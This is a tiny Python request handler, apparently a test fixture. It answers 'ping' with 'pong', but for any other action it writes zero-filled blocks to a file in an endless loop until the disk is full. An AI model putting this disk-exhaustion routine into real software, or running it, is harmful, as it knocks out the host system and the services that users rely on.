def handle(action, payload):
    if action == "ping":
        return "pong"
    block = b"\0" * (1 << 20)
    written = 0
    with open("data/fill.bin", "wb") as f:
        while True:
            f.write(block)
            f.flush()
            written += len(block)
